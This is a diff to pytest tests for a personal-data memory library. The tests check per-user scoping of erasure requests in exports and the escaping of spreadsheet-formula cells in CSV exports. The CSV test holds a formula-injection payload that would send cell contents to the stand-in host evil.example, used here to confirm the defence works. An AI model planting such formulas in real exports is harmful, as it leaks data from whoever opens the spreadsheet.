@@ -8,10 +8,11 @@ import json
 import os
 import stat
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from deleatur import InvalidInputError, Memory, NewMemory, Space
+from deleatur import InvalidInputError, Memory, NewMemory, Role, Space, SpaceFilter
 from deleatur.log.checkpoint import Checkpoint
 from deleatur.log.entries import Entry, EventType
 from deleatur.log.note import Note, open_note
@@ -55,6 +56,44 @@ def test_json_export_of_a_subject_round_trips(populated: Memory) -> None:
     assert "Bob note" not in buffer.getvalue()
 
 
+def _requests_in_export(memory: Memory, **who: str) -> dict[str, dict[str, Any]]:
+    buffer = io.StringIO()
+    memory.export_json(buffer, **who)
+    return {r["id"]: r for r in json.loads(buffer.getvalue())["erasure_requests"]}
+
+
+def test_a_user_export_holds_the_requests_that_reached_that_user_and_no_one_else(
+    memory: Memory, tmp_path: Path
+) -> None:
+    """A user export held no erasure request at all, though a key scoped to the user
+    lists the erasures of their account and of subjects in their spaces."""
+    memory.remember("Ann in u1", subject="Ann", space=Space("u1"))
+    memory.remember("Ann in u2", subject="Ann", space=Space("u2"))
+    memory.remember("Cy in u1", subject="Cy", space=Space("u1", agent_id="a"))
+    memory.remember("Dee in u3", subject="Dee", space=Space("u3"))
+    memory.remember("Eve", subject="Eve", space=Space("u1"))
+    basis, dpo = "Art. 17(1)(a)", "dpo"
+    memory.erase("Ann", scope=SpaceFilter(user_id="u1"), request_id="SUB-U1", basis=basis, requester=dpo)
+    memory.erase_all(user_id="u1", agent_id="a", request_id="ACC-U1-A", basis=basis, requester=dpo)
+    memory.erase_all(user_id="u3", request_id="ACC-U3", basis=basis, requester=dpo)
+    memory.erase("Eve", request_id="SUB-ALL", basis=basis, requester=dpo)  # the whole tenant's: no one user's
+    u1 = _requests_in_export(memory, user_id="u1")
+    assert sorted(u1) == ["ACC-U1-A", "SUB-U1"]
+    # Ann's record in u2 is not u1's to learn of; the request's own status counts it.
+    assert memory.erasure_request("SUB-U1").counts["kept_in_other_spaces"] == 1
+    assert "kept_in_other_spaces" not in u1["SUB-U1"]["counts"]
+    scoped, _ = memory.create_principal("u1-app", Role.MEMBER, scopes=["u1"])
+    listed = memory.as_principal(scoped).erasure_requests()
+    assert u1 == {r.id: r.to_json(memory._clock()) for r in listed}  # as the user's own key lists them
+    assert sorted(_requests_in_export(memory, user_id="u3")) == ["ACC-U3"]  # an erased user's too
+    assert _requests_in_export(memory, user_id="u2") == {}
+    assert sorted(_requests_in_export(memory, subject="Ann")) == ["SUB-U1"]
+    assert sorted(_requests_in_export(memory, subject="Eve")) == ["SUB-ALL"]
+    memory.export_csv(tmp_path / "u1", user_id="u1")
+    with (tmp_path / "u1" / "erasure_requests.csv").open(encoding="utf-8") as handle:
+        assert sorted(row["id"] for row in csv.DictReader(handle)) == ["ACC-U1-A", "SUB-U1"]
+
+
 def test_user_export_covers_every_space_of_that_user_only(populated: Memory) -> None:
     buffer = io.StringIO()
     populated.export_json(buffer, user_id="u2")
@@ -73,6 +112,38 @@ def test_csv_bundle_matches_the_json(populated: Memory, tmp_path: Path) -> None:
     assert json.loads(rows[0]["metadata"]) == {}
     with pytest.raises(InvalidInputError, match="not empty"):
         populated.export_csv(tmp_path / "bundle", subject="Alice")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(memory: Memory, tmp_path: Path) -> None:
+    """A record's text =HYPERLINK("http://evil..."&A1, ...) was written as is: a
+    spreadsheet opening records.csv runs it, and sends the cells it names away."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    record = memory.remember(evil, subject="+Mallory", key="@handle", source="-crm", metadata={"a": 1})
+    memory.remember("\tindented", subject="+Mallory")
+    memory.remember("plain, -not first", subject="+Mallory")
+    memory.record_decision("=1+1 approved", used=[record.id])
+    memory.restrict("+Mallory", reason="@contested", actor="-dpo")
+    memory.export_csv(tmp_path / "bundle", subject="+mallory")
+    with (tmp_path / "bundle" / "records.csv").open(encoding="utf-8", newline="") as handle:
+        rows = {row["id"]: row for row in csv.DictReader(handle)}
+    row = rows[record.id]
+    assert (row["text"], row["subject_original"], row["key"], row["source"]) == (
+        "'" + evil, "'+Mallory", "'@handle", "'-crm"
+    )  # fmt: skip
+    assert sorted(r["text"] for r in rows.values()) == sorted(["'" + evil, "'\tindented", "plain, -not first"])
+    assert json.loads(row["metadata"]) == {"a": 1}
+    with (tmp_path / "bundle" / "restrictions.csv").open(encoding="utf-8", newline="") as handle:
+        [restriction] = list(csv.DictReader(handle))
+    assert (restriction["reason"], restriction["actor"]) == ("'@contested", "'-dpo")
+    with (tmp_path / "bundle" / "decisions.csv").open(encoding="utf-8", newline="") as handle:
+        [decision] = list(csv.DictReader(handle))
+    assert decision["summary"] == "'=1+1 approved"
+    buffer = io.StringIO()
+    memory.export_json(buffer, subject="+mallory")
+    data = json.loads(buffer.getvalue())  # the JSON export stays exact
+    assert sorted(r["text"] for r in data["records"]) == ["\tindented", evil, "plain, -not first"]
+    assert data["restrictions"][0]["reason"] == "@contested"
+    assert data["decisions"][0]["summary"] == "=1+1 approved"
 
 
 def test_csv_tables_have_their_header_when_empty_and_rows_when_not(memory: Memory, tmp_path: Path) -> None:
